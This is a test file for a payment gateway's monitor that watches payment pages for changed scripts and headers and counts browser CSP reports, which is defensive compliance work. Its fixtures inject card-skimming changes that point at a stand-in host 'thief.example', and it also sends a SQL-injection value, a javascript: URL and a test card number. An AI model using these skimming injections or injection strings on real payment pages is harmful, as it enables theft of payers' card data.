import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, test } from 'node:test'
import { doctor } from '../../src/cli/doctor.ts'
import { approvedInventory, presentInventory } from '../../src/pages/watch/inventory.ts'
import { lookAtPages } from '../../src/pages/watch/look-at-pages.ts'
import { pageDifferences } from '../../src/pages/watch/page-differences.ts'
import { pageReports } from '../../src/pages/watch/page-reports.ts'
import { watchPages } from '../../src/pages/watch/watch-pages.ts'
import { type TestApp, testApp } from '../support/app.ts'
import { account, formAddress, payment } from '../support/hosted-form.ts'
import { madePage } from '../support/hosted-pages.ts'
import { newInvoice, readInvoice } from '../support/invoices.ts'
import { operatorOf } from '../support/operator.ts'
import { CARD_FORM } from '../support/pay-page.ts'
import { servedRoutes } from '../support/served-routes.ts'

/** PCI DSS 4.0.1, 6.4.3 and 11.6.1: scripts and headers of payment pages are listed, compared and watched. */

let t: TestApp
let invoice_id = ''
let paylink_id = ''
let hosted_page_id = ''
const inventory = approvedInventory()
/** What stands between the gateway and its payers changes answers like this. */
let tamper: (answer: { headers: Record<string, unknown>; body: string }) => { headers: object; body: string } = same =>
  same
let public_url = ''
let proxy: Server

before(async () => {
  t = await testApp('page_watch')
  invoice_id = (await newInvoice(t)).id
  const { location_id } = t.merchants[0]
  const made = await t.api.post('paylinks', { paylink: { location_id, amount_due: '9.00', description: 'Hedge' } })
  paylink_id = made.body.paylink.id
  hosted_page_id = (await madePage(t.api, t.merchants[0])).id
  proxy = createServer((request, response) => {
    const { host: _, ...headers } = request.headers
    void t.app.http.inject({ url: request.url ?? '/', headers: headers as Record<string, string> }).then(answer => {
      const changed = tamper({ headers: { ...answer.headers }, body: answer.body })
      response.writeHead(answer.statusCode, { ...changed.headers, 'content-length': Buffer.byteLength(changed.body) })
      response.end(changed.body)
    })
  })
  proxy.listen(0, '127.0.0.1')
  await once(proxy, 'listening')
  public_url = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`
})
after(async () => {
  proxy.close()
  await t.close()
})

async function served(name: string, url: string, form?: Record<string, string>) {
  const post = {
    method: 'POST' as const,
    headers: { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' },
    payload: new URLSearchParams(form).toString(),
  }
  const { headers, body } = await t.app.http.inject({ url, ...(form ? post : {}) })
  return { name, headers: new Headers(headers as Record<string, string>), document: body, https: false }
}

test('the inventory is that of this checkout: npm run inventory approves a change', () => {
  assert.deepEqual(inventory, JSON.parse(JSON.stringify(presentInventory())))
  for (const { why } of Object.values(inventory.scripts)) assert.ok(why.length > 20)
})

test('every page where an account is entered is served as the inventory says', async () => {
  const form = await served('payform', formAddress(t, 'payform', payment(t)))
  const hidden = [...form.document.matchAll(/type="hidden" name="([^"]*)" value="([^"]*)"/g)]
  const fields = Object.fromEntries(hidden.map(([, name, value]) => [name, value]))
  const pages = [
    await served('invoice', `/quickinvoice/?id=${invoice_id}`),
    await served('invoice', `/quickinvoice/?id=${invoice_id}`, { cc_account_number: '4' }),
    await served('paylink', `/?paylink_id=${paylink_id}`),
    await served('hosted page', `/hostedpaymentpage?id=${hosted_page_id}`),
    form,
    await served('accountform', formAddress(t, 'accountform', account(t))),
    await served('result of a form', '/v2/payform', { ...CARD_FORM, ...fields }),
    await served('notice', '/quickinvoice/?id=000000000000000000000000'),
  ]
  assert.deepEqual([...new Set(pages.map(({ name }) => name))].toSorted(), Object.keys(inventory.pages).toSorted())
  for (const page of pages) assert.deepEqual(pageDifferences(inventory, page), [], page.name)
})

const CHANGES: readonly [string, (document: string) => string][] = [
  [
    'a script from elsewhere',
    text => text.replace('</body>', '<script src="https://thief.example/a.js"></script></body>'),
  ],
  ['an inline script', text => text.replace('</body>', '<script>steal()</script></body>')],
  ['another hash', text => text.replace(/integrity="sha384-[^"]*" defer/, 'integrity="sha384-AAAA" defer')],
  ['a script that is gone', text => text.replace(/<script .*<\/script>/, '')],
  ['a body in an approved script', text => text.replace('defer></script>', 'defer>steal()</script>')],
  ['an inline handler', text => text.replace('<form', '<form onsubmit="steal()"')],
  ['a form that is sent elsewhere', text => text.replace(/action="[^"]*"/, 'action="https://thief.example/"')],
  ['a button that sends it elsewhere', text => text.replace('<button', '<button formaction="//thief.example"')],
  ['a frame', text => text.replace('</body>', '<iframe src="/x"></iframe></body>')],
  ['a base', text => text.replace('<head>', '<head><base href="https://thief.example/">')],
  ['a refresh', text => text.replace('<head>', '<head><meta http-equiv="refresh" content="0">')],
  [
    'a style sheet from elsewhere',
    text => text.replace('</head>', '<link rel="stylesheet" href="//thief.example"></head>'),
  ],
]

for (const [what, change] of CHANGES) {
  test(`a payment page with ${what} differs`, async () => {
    const page = await served('invoice', `/quickinvoice/?id=${invoice_id}`)
    const document = change(page.document)
    assert.notEqual(document, page.document)
    assert.notDeepEqual(pageDifferences(inventory, { ...page, document }), [])
  })
}

test('a header that is missing, weaker or added differs', async () => {
  const page = await served('invoice', `/quickinvoice/?id=${invoice_id}`)
  const changed = (change: (headers: Headers) => void): string[] => {
    const headers = new Headers(page.headers)
    change(headers)
    return pageDifferences(inventory, { ...page, headers })
  }
  for (const name of Object.keys(inventory.headers).filter(each => each !== 'strict-transport-security'))
    assert.equal(changed(headers => headers.delete(name)).length, 1, name)
  assert.equal(changed(headers => headers.set('content-security-policy', 'script-src *')).length, 1)
  assert.equal(changed(headers => headers.append('content-security-policy', 'default-src *')).length, 1)
  assert.equal(changed(headers => headers.set('link', '<https://thief.example>; rel=preload')).length, 1)
  assert.equal(pageDifferences(inventory, { ...page, https: true }).length, 1, 'no word that it has to be https')
})

test('the look goes through the public address, finds nothing, and leaves no view behind', async () => {
  const look = await lookAtPages({ db: t.db, inventory, public_url })
  assert.deepEqual(look, { pages: 6, differences: [] })
  const views = async () => (await readInvoice(t, invoice_id, 'quick_invoice_views')).quick_invoice_views.length
  const before = await views()
  await lookAtPages({ db: t.db, inventory, public_url })
  assert.equal(await views(), before)
  await assert.rejects(lookAtPages({ db: t.db, inventory, public_url: 'http://127.0.0.1:9' }))
})

test('a difference is told: to the operator, in the trail once, as a figure, and by doctor', async () => {
  const warned: (readonly string[])[] = []
  const noted: (readonly string[])[] = []
  const watch = () =>
    watchPages({
      db: t.db,
      clock: t.clock,
      publicUrl: () => public_url,
      note: async differences => void noted.push(differences),
      warn: async differences => warned.push(differences),
    })
  const figure = async () =>
    (await t.db.query<{ n: number }>('select coalesce(sum(cardinality(differences)), 0)::int as n from page_look'))[0]!
      .n
  assert.equal(await watch(), 0)
  assert.deepEqual([warned.length, noted.length, await figure()], [0, 0, 0])

  tamper = ({ headers, body }) => ({ headers, body: body.replace('watchCard(field', 'steal(field') })
  assert.equal(await watch(), 1)
  assert.equal(await watch(), 1)
  assert.deepEqual(noted, [['pay.js: the script is not as approved']])
  assert.deepEqual(warned, [...noted, ...noted], 'each night that it lasts')
  assert.equal(await figure(), 1)
  const operator = operatorOf(t, { TOLLGATE_PUBLIC_URL: public_url })
  await operator.run(doctor([]) as never).catch(() => undefined)
  assert.match(operator.printed.join('\n'), /BAD .*payment pages differ from what was approved: pay\.js/)
  tamper = same => same
})

const REPORTS = '/page-reports'
const report = (payload: unknown, type = 'application/csp-report', remoteAddress = '198.51.100.1') =>
  t.app.http.inject({
    method: 'POST',
    url: REPORTS,
    remoteAddress,
    headers: { 'content-type': type },
    payload: typeof payload === 'string' ? payload : JSON.stringify(payload),
  })
const older = (over: object) => ({
  'csp-report': {
    'document-uri': `http://127.0.0.1:8080/quickinvoice/?id=${'a'.repeat(24)}`,
    'effective-directive': 'script-src-elem',
    'blocked-uri': 'https://thief.example/a.js?card=4111111111111111',
    ...over,
  },
})
const rows = () =>
  t.db.query<{ page: string; directive: string; blocked: string; seen: number }>(
    'select page, directive, blocked, seen::int from page_report order by 1, 2, 3',
  )

test('reports of browsers are counted by words of ours, in both of their forms', async () => {
  assert.equal((await report(older({}))).statusCode, 204)
  const newer = {
    documentURL: 'https://x.example/?paylink_id=1',
    effectiveDirective: 'script-src',
    blockedURL: 'inline',
  }
  const list = [{ type: 'csp-violation', url: 'x', body: newer }, { type: 'deprecation', body: {} }, 7, null]
  assert.equal((await report(list, 'application/reports+json')).statusCode, 204)
  await t.app.worker.drain()
  const reports = pageReports({ ...t, publicUrl: () => 'http://127.0.0.1:8080' })
  for (const blocked of [
    'chrome-extension://abc/x.js',
    'data',
    'http://127.0.0.1:8080/a.js',
    '',
    '<script>',
    'javascript:alert(1)',
  ])
    reports.count(older({ 'blocked-uri': blocked, 'effective-directive': `x'; drop table page_report ${blocked}` }))
  await reports.flush()
  const seen = await rows()
  assert.deepEqual([...new Set(seen.map(({ directive }) => directive))].includes('other'), true)
  assert.ok(!JSON.stringify(await t.db.query('select * from page_report')).match(/thief|4111|<script|drop/))
})

test('G50 reports are counted by the page they are of, whichever page that is', async () => {
  const pages = await Promise.all(
    servedRoutes(t.app)
      .filter(route => route.startsWith('GET ') && !/^GET \/(?:docs|sandbox|assets)/.test(route))
      .map(async route => {
        const url = route.slice(4).replaceAll(/\{\w+\}/g, 'a'.repeat(24))
        const { headers } = await t.app.http.inject({ url, headers: { accept: 'text/html' } })
        return String(headers['content-security-policy']).includes('report-uri') ? [url] : []
      }),
  )
  const urls = [...new Set(pages.flat())]
  assert.ok(urls.length >= 8, urls.join())
  await t.db.run('delete from page_report')
  const reports = pageReports({ ...t, publicUrl: () => 'http://127.0.0.1:8080' })
  for (const url of urls) reports.count(older({ 'document-uri': `http://127.0.0.1:8080${url}` }))
  await reports.flush()
  const others = (await rows()).filter(({ page }) => page === 'other')
  assert.deepEqual(others, [], urls.join())
})

test('whatever is sent as a report, nothing breaks and nothing grows', async () => {
  for (const body of [
    '',
    '{',
    'null',
    '7',
    '[]',
    '{}',
    '[[[]]]',
    '{"csp-report":7}',
    '{"csp-report":[]}',
    '\u0000',
    '"x"',
  ]) {
    const { statusCode } = await report(body, 'application/csp-report', '198.51.100.2')
    assert.equal(statusCode, 400, body)
  }
  assert.equal((await report('x'.repeat(20_000), 'application/csp-report', '198.51.100.3')).statusCode, 413)
  assert.equal((await report('a=1', 'application/x-www-form-urlencoded', '198.51.100.3')).statusCode, 415)
  const flood = Array.from({ length: 100 }, (_, index) =>
    report(
      older({ 'blocked-uri': `https://${index}.example/`, 'document-uri': `http://x/${index}` }),
      undefined,
      '198.51.100.4',
    ),
  )
  const statuses = (await Promise.all(flood)).map(({ statusCode }) => statusCode)
  assert.deepEqual([...new Set(statuses)].toSorted(), [204, 429])
  // Thirty of an address, five that are its share, and what comes in while it is counted.
  assert.ok(statuses.filter(status => status === 204).length <= 37)
  const reports = pageReports({ ...t, publicUrl: () => 'http://127.0.0.1:8080' })
  for (let index = 0; index < 20_000; index += 1)
    reports.count(
      older({
        'effective-directive': `d${index}`,
        'blocked-uri': `s${index}://x`,
        'document-uri': `http://x/${index}`,
      }),
    )
  await reports.flush()
  assert.ok((await rows()).length < 20)
})

test('G50 addresses that send as much as they may leave others their share', async () => {
  const send = async (address: string) => (await report(older({}), undefined, address)).statusCode
  const flood = Array.from({ length: 30 * 30 }, (_, index) => send(`203.0.113.${index % 30}`))
  assert.ok((await Promise.all(flood)).includes(429))
  assert.equal(await send('192.0.2.77'), 204)
})
